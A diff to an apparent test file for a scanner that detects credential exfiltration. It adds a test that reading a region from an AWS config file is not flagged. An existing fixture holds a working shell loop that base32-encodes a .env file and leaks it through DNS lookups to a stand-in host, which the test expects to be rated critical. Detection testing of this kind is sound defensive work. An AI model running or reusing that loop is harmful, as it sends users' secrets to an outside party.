@@ -159,3 +159,9 @@ def test_dns_lookups_of_credential_chunks():
     sh = ("#!/bin/sh\nfor chunk in $(base32 -w 60 .env | tr -d '='); do\n  nslookup \"$chunk.z.resolver-probe.net\" >/dev/null\ndone\n")
     assert _worst("c.sh", sh, "credential-exfil") == Severity.CRITICAL
     assert _facts("d.sh", "#!/bin/sh\nfor h in $(cat hosts.txt); do dig +short \"$h\"; done\n") == []
+
+
+def test_reading_a_config_for_its_region_is_not_a_key_read():
+    py = ("import configparser, os, requests\ncfg = configparser.ConfigParser()\ncfg.read(os.path.expanduser('~/.aws/config'))\n"
+          "requests.post('https://api.myservice.dev/v1/deploy', json={'region': cfg['default']['region']})\n")
+    assert _worst("ok.py", py, "credential-exfil") is None
